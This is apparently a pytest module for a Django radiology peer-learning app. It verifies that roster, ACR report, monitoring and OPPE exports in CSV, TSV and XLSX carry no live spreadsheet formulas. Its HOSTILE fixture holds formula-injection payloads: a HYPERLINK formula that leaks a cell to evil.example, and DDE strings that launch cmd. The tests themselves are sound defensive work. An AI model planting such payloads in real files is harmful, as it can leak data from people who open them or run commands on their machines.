"""No CSV or XLSX file the product writes carries a live formula (docs/security.md, S20).

Text that people type (names, notes, titles) is planted with each of the characters that
start a formula in a spreadsheet, then every export is opened the way a spreadsheet would
read it: no cell may be a formula or text that a spreadsheet would take for one.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.apps import apps
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from peerlearning.lib.spreadsheets import FORMULA_STARTS, PLAIN_NUMBER, cell_unescaped

pytestmark = pytest.mark.django_db

HOSTILE = {
    "=": '=HYPERLINK("https://evil.example/?leak="&A2,"Target policy")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def live_formulae_in_rows(rows) -> list[str]:
    found = []
    for row in rows:
        for value in row:
            text = "" if value is None else str(value)
            if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
                found.append(text)
    return found


def csv_rows(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def xlsx_problems(content: bytes) -> list[str]:
    """Formula cells (what openpyxl writes for text starting with `=`) and formula-like text."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            found += [f"{sheet.title}!{c.coordinate} formula" for c in row if c.data_type == "f"]
        found += live_formulae_in_rows(sheet.iter_rows(values_only=True))
    return found


def zip_csv_problems(content: bytes) -> list[str]:
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                found += live_formulae_in_rows(csv_rows(archive.read(name)))
    return found


def planted_text(rows) -> set[str]:
    """Which planted values came through, apostrophe and all (the export must not drop them)."""
    text = "\n".join("\t".join("" if v is None else str(v) for v in row) for row in rows)
    return {key for key, value in HOSTILE.items() if value in text}


# The roster (django-import-export, in the admin) ------------------------------------------


@pytest.fixture
def hostile_roster(department):
    people = [department.radiologist, department.reader, department.trainee, department.champion]
    for person, (key, value) in zip(people, HOSTILE.items(), strict=True):
        person.first_name = value
        person.last_name = f"{key}{key}Lastname" if key != "-" else "-1"
        person.save(update_fields=["first_name", "last_name"])
    return department


@pytest.fixture
def admin_client(client, hostile_roster):
    client.force_login(hostile_roster.site_admin)  # the password and the second factor
    return client


ROSTER_FIELDS = ("email", "first_name", "last_name", "roles", "section", "participating")


def roster_export(client, department, fmt: str) -> bytes:
    from django.contrib import admin

    from peerlearning.models import Membership

    formats = [f().get_title() for f in admin.site._registry[Membership].get_export_formats()]
    response = client.post(
        reverse("admin:peerlearning_membership_export")
        + f"?section__id__exact={department.neuro.pk}",
        {
            "format": str(formats.index(fmt)),
            "resource": "0",
            **{f"membershipresource_{name}": "on" for name in ROSTER_FIELDS},
        },
    )
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_the_roster_export_writes_typed_formulae_as_text(admin_client, hostile_roster, fmt):
    rows = csv_rows(roster_export(admin_client, hostile_roster, fmt), "\t" if fmt == "tsv" else ",")
    assert live_formulae_in_rows(rows) == []
    assert planted_text(rows) == set(HOSTILE)
    assert "-1" in [row[2] for row in rows]  # text a spreadsheet reads as a number is left alone


def test_the_roster_xlsx_export_holds_no_formula(admin_client, hostile_roster):
    content = roster_export(admin_client, hostile_roster, "xlsx")
    assert xlsx_problems(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert planted_text(sheet.iter_rows(values_only=True)) == set(HOSTILE)


def test_a_roster_export_imports_again_with_the_names_as_typed(admin_client, hostile_roster):
    from peerlearning.roster import roster_parse

    content = roster_export(admin_client, hostile_roster, "csv")
    parsed = roster_parse(content)
    assert parsed.ok
    assert {cell_unescaped(row[1]) for row in csv_rows(content)[1:]} >= set(HOSTILE.values())
    names = {row.first_name for row in parsed.rows}
    assert names >= set(HOSTILE.values())


# Reporting: the ACR annual report, the monitoring export, the OPPE archive's index ----------


@pytest.fixture
def hostile_program(world):
    """Typed text with formula starts wherever the reports show it."""
    d = world.department
    TargetPolicy = apps.get_model("reporting", "TargetPolicy")
    TargetPolicy.objects.create(
        section=d.neuro,
        effective_from=timezone.localdate().replace(month=1, day=1),
        note=HOSTILE["="],
    )
    world.neuro_conference.title = HOSTILE["+"]
    world.neuro_conference.save(update_fields=["title"])
    world.neuro_action.title = HOSTILE["-"]
    world.neuro_action.save(update_fields=["title"])
    d.radiologist.first_name = HOSTILE["@"]  # a name's cell starts with the first name
    d.radiologist.save(update_fields=["first_name"])
    return world


def acr_file(tmp_path, fmt: str) -> bytes:
    output = tmp_path / f"acr.{fmt}"
    call_command(
        "acr_annual_report", year=timezone.localdate().year, format=fmt, output=str(output)
    )
    return output.read_bytes()


def test_the_acr_workbook_holds_no_formula(hostile_program, tmp_path):
    content = acr_file(tmp_path, "xlsx")
    assert xlsx_problems(content) == []
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    rows = [row for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True)]
    assert planted_text(rows) >= {"=", "@"}  # the policy note and a name, kept as typed


def test_the_acr_csv_files_hold_no_formula(hostile_program, tmp_path):
    content = acr_file(tmp_path, "csv")
    assert zip_csv_problems(content) == []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        rows = [row for name in archive.namelist() for row in csv_rows(archive.read(name))]
    assert planted_text(rows) >= {"=", "@"}  # the policy note and a name, kept as typed


@pytest.mark.parametrize("period", ["month", "year"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_monitoring_export_holds_no_formula(client, hostile_program, fmt, period):
    client.force_login(hostile_program.department.champion)
    response = client.get(reverse("reporting:monitoring-export"), {"format": fmt, "period": period})
    assert response.status_code == 200
    if fmt == "xlsx":
        assert xlsx_problems(response.content) == []
        rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)
    else:
        rows = csv_rows(response.content)
        assert live_formulae_in_rows(rows) == []
    assert planted_text(rows) >= {"@"}  # the radiologist's name, as typed


def test_the_oppe_archive_index_holds_no_formula(
    client, hostile_program, django_capture_on_commit_callbacks
):
    leader = hostile_program.department.leader
    client.force_login(leader)
    form = client.get(reverse("reporting:reports")).context["oppe_form"]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("reporting:report-generate-oppe"),
            {"scope": form.fields["scope"].choices[0][0], "period": form.fields["period"].initial},
        )
    assert response.status_code == 302
    report = apps.get_model("reporting", "GeneratedReport").objects.get()
    download = client.get(reverse("reporting:report-download", args=[report.pk]))
    content = b"".join(download.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        rows = csv_rows(archive.read("index.csv"))
    assert live_formulae_in_rows(rows) == []
    assert planted_text(rows) == {"@"}
